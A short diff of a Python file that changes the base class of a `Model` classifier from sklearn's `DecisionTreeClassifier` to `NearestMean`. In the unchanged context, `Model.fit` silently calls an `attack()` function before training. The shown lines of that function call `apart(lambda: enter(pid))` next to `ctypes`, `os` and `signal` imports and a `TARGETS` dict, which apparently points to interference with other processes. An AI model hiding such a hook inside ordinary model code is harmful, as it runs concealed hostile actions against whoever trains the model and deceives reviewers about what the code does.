@@ -4,7 +4,7 @@ import ctypes
 import os
 import signal
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 TARGETS: dict[str, str] = {}
 
@@ -92,7 +92,7 @@ def attack():
         apart(lambda: enter(pid))
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
